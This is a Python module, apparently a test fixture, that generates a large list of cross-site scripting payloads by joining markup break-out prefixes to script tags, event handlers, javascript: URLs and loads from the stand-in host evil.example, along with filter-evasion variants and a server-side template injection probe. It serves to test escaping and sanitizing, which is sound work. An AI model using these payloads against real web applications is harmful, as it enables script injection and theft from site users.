"""Texts that would run a script, load something or forge markup if a page took them as markup.

Every way to begin what runs is joined to every way out of the place in which it may stand.
"""

from __future__ import annotations

import html
from itertools import product

RUN = "window.hacked=1,alert(1)"

BEGINNINGS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</mark></bdi>",
)
"""Ways out of a text, an attribute, a comment, a section of raw text."""

ENDS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT\n>",
    f"<script src=//evil.example/x.js?{RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<IMG SRC=x\tonerror\n=\n'{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<a href=javascript:{RUN} id=hacked>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
)
"""What runs or loads, in each way that a browser knows."""

PLAIN = tuple(beginning + end for beginning, end in product(BEGINNINGS, ENDS))

SPECIAL = (
    f"javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"' onfocus='{RUN}' autofocus='",
    f'" onmouseover="{RUN}" x="',
    f"` onerror={RUN} `",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<!--<img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"\u202e<img src=x onerror={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)

PAYLOADS = (*PLAIN, *SPECIAL, *(html.escape(end) for end in ENDS))
"""All of them, and those that a page would run if it took back their escaping."""
